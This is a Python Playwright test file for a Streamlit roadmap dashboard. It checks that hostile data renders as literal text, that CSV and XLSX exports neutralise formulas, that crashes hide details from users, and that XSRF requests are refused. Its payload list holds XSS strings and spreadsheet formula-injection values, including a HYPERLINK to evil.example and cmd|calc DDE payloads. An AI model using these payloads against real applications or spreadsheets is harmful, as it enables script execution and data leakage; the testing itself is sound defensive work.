"""Attacks through the data and through the server's failure modes, in a real browser:
a decree whose titles and legend carry HTML, Markdown links and spreadsheet formulas; a broken dataset;
a page that crashes.  Nothing may run, nothing may leak, every page must still say something useful."""
from __future__ import annotations

import csv
import io
import re
import shutil
import urllib.error
import urllib.request
from urllib.parse import urlparse

import openpyxl
import pandas as pd
import pytest
from playwright.sync_api import Page, expect

from i18n import ru as texts
from loaders.build import legend_path
from roadmap import config
from testing.server import streamlit_server
from tests.browser.shared import download, open_page
from tests.conftest import ROOT, run_build

pytestmark = pytest.mark.browser

HOSTILE_SOURCE = ROOT / "tests" / "fixtures" / "roadmap_hostile.txt"
# Funding: 7 charts, with the totals by budget (the fixture gives amounts with РБ beside them).
PAGES = [("", texts.APP_TITLE, 4), ("funding", texts.PAGE_FUNDING, 7), ("executors", texts.PAGE_EXECUTORS, 4),
         ("timeline", texts.PAGE_TIMELINE, 2), ("measures", texts.PAGE_MEASURES, 0)]
# What the fixture smuggles in; each must reach the screen as these very characters, never as markup.
PAYLOADS = ["<img src=x onerror=alert(1)>", '<script>alert("xss")</script>', "[нажмите здесь](javascript:alert(1))",
            "<b>тег</b>", '=HYPERLINK("http://evil.example/?leak=1";"Финансовая академия")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory) -> pd.DataFrame:
    out = tmp_path_factory.mktemp("hostile") / "roadmap.parquet"
    built = run_build(HOSTILE_SOURCE, "--out", out)
    assert built.returncode == 0, built.stderr
    return out


@pytest.fixture(scope="module")
def hostile_server(hostile_data, tmp_path_factory):
    with streamlit_server(tmp_path_factory.mktemp("hostile_server"), ROADMAP_DATA=str(hostile_data)) as server:
        yield server


@pytest.fixture
def watched(page: Page):
    """Every dialog and every request the smuggled <img src=x> would make."""
    seen = {"dialogs": [], "img_requests": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("request", lambda r: urlparse(r.url).path.rstrip("/").endswith("/x") and seen["img_requests"].append(r.url))
    return seen


def assert_nothing_injected(page: Page, watched) -> None:
    assert watched["dialogs"] == [] and watched["img_requests"] == []
    assert page.locator('img[src="x"], a[href^="javascript:"]').count() == 0
    assert not page.evaluate("[...document.scripts].some(s => s.textContent.includes('xss'))")


def hover_texts(page: Page, chart_index: int) -> list[str]:
    """Hover every bar of one chart (its shape, not its outside text label) and read the hover label."""
    plot = page.locator(".js-plotly-plot").nth(chart_index)
    plot.scroll_into_view_if_needed()
    texts_seen = []
    label = plot.locator(".hoverlayer text")
    for point in plot.locator("g.point > path").all():
        page.mouse.move(0, 0)  # leave the chart so the next label cannot be the previous one
        expect(label).to_have_count(0)
        point.hover(force=True)
        expect(label.first).to_be_attached()
        texts_seen.append(plot.locator(".hoverlayer").text_content())
    return texts_seen


@pytest.mark.parametrize(("path", "heading", "charts"), PAGES, ids=[p[0] or "overview" for p in PAGES])
def test_hostile_document_is_plain_text_on_every_page(page: Page, hostile_server, watched, screenshots, path, heading,
                                                      charts):
    open_page(page, f"{hostile_server.url}/{path}", heading)
    expect(page.locator(".js-plotly-plot")).to_have_count(charts, timeout=30_000)
    if path == "measures":  # the card of measure 1 has its title, as written, as its heading
        # Scoped to the card's heading: the data grid also holds the title, in a hidden accessibility cell,
        # and "the first match" would depend on which the page drew first.
        title = page.locator(".st-key-measure_card").get_by_role("heading", level=3)
        expect(title).to_have_text(re.compile(f"^№ 1\\. .*{re.escape(PAYLOADS[0])}"))
    page.screenshot(path=str(screenshots / f"hostile_{path or 'overview'}.png"), full_page=True)
    assert_nothing_injected(page, watched)


def test_hostile_titles_are_literal_in_chart_hovers(page: Page, hostile_server, watched):
    open_page(page, f"{hostile_server.url}/timeline", texts.PAGE_TIMELINE)
    gantt = " ".join(hover_texts(page, 0))
    open_page(page, f"{hostile_server.url}/funding", texts.PAGE_FUNDING)
    ranked = " ".join(hover_texts(page, 5))  # the bars of measures with an amount (after the totals by budget)
    open_page(page, f"{hostile_server.url}/executors", texts.PAGE_EXECUTORS)
    workload = " ".join(hover_texts(page, 0))  # ministries, hovered with their full legend names
    assert "<img src=x onerror=alert(1)>" in gantt and '<script>alert("xss")</script>' in gantt
    assert "[нажмите здесь](javascript:alert(1))" in ranked and "<b>тег</b>" in ranked
    assert "<img src=x onerror=alert(3)>" in workload and "[сайт](javascript:alert(4))" in workload
    assert_nothing_injected(page, watched)


def test_hostile_exports_hold_no_formula(page: Page, hostile_server, hostile_data, watched):
    open_page(page, f"{hostile_server.url}/measures", texts.PAGE_MEASURES)
    csv_download, xlsx_download = download(page, "csv"), download(page, "xlsx")
    rows = list(csv.reader(io.StringIO(csv_download.path().read_bytes().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    titles = pd.read_parquet(hostile_data).title.tolist()
    shown_titles = [row[rows[0].index(texts.COLUMNS["title"])] for row in rows[1:]]
    assert shown_titles == [("'" + t if t.startswith(FORMULA_START) else t) for t in titles]
    assert sum(t.startswith("'") for t in shown_titles) == 3  # =HYPERLINK, +cmd, @SUM

    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_download.path().read_bytes())).active
    xlsx_cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [c.coordinate for c in xlsx_cells if c.data_type == "f"] == []
    assert not [c.value for c in xlsx_cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert_nothing_injected(page, watched)


# A broken dataset: every deep link shows the message and the rebuild command, and only the server log
# has the details.
@pytest.fixture(scope="module")
def broken_server(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("broken")
    measures = workdir / "roadmap.parquet"
    measures.write_bytes((ROOT / "data" / "roadmap.parquet").read_bytes()[:5000])
    shutil.copy(ROOT / "data" / "roadmap_legend.parquet", legend_path(measures))
    with streamlit_server(workdir, ROADMAP_DATA=str(measures)) as server:
        yield server


@pytest.mark.parametrize("path", [p[0] for p in PAGES], ids=[p[0] or "overview" for p in PAGES])
def test_broken_data_gives_every_deep_link_the_rebuild_message(page: Page, broken_server, path):
    page.goto(f"{broken_server.url}/{path}?ministry=МКС")
    expect(page.get_by_text(texts.DATA_ERROR_TITLE)).to_be_visible(timeout=60_000)
    expect(page.get_by_text(config.REBUILD_COMMAND, exact=True)).to_be_visible()
    expect(page.locator('[data-testid="stApp"]')).to_have_attribute("data-test-script-state", "notRunning")
    expect(page.locator('[data-testid="stException"]')).to_have_count(0)
    expect(page.get_by_text("Page not found")).to_have_count(0)
    assert "roadmap.parquet" not in page.locator("body").inner_text()  # the detail stays on the server
    assert "cannot read roadmap.parquet" in broken_server.log.read_text()


# A page that crashes: the user sees that something failed, never the exception or a stack trace; the
# server log has both.
@pytest.fixture(scope="module")
def crashing_server(tmp_path_factory):
    with streamlit_server(tmp_path_factory.mktemp("crash"), script="tests/fixtures/crashing_app.py",
                          expect_traceback=True) as server:
        yield server


def test_a_crash_shows_no_details_to_the_user(page: Page, crashing_server):
    page.goto(crashing_server.url)
    app = page.locator('[data-testid="stApp"]')
    expect(app).to_have_attribute("data-test-script-state", "notRunning", timeout=60_000)
    expect(page.locator('[data-testid="stException"]')).to_be_visible()
    shown = page.locator("body").inner_text()
    assert "internal-detail-4711" not in shown and "Traceback" not in shown and "crashing_app.py" not in shown
    log = crashing_server.log.read_text()
    assert "internal-detail-4711" in log and "Traceback" in log


def test_a_forged_cross_site_request_is_refused(app_url):
    """XSRF protection: a state-changing request without the session's token is turned away before it
    reaches any handler (with the protection off the same request gets as far as the session lookup)."""
    boundary = "x-boundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n=1+1\r\n"
            f"--{boundary}--\r\n").encode()
    request = urllib.request.Request(f"{app_url}/_stcore/upload_file/some-session/some-file", data=body, method="PUT",
                                     headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 403
    assert b"XSRF" in refused.value.read()
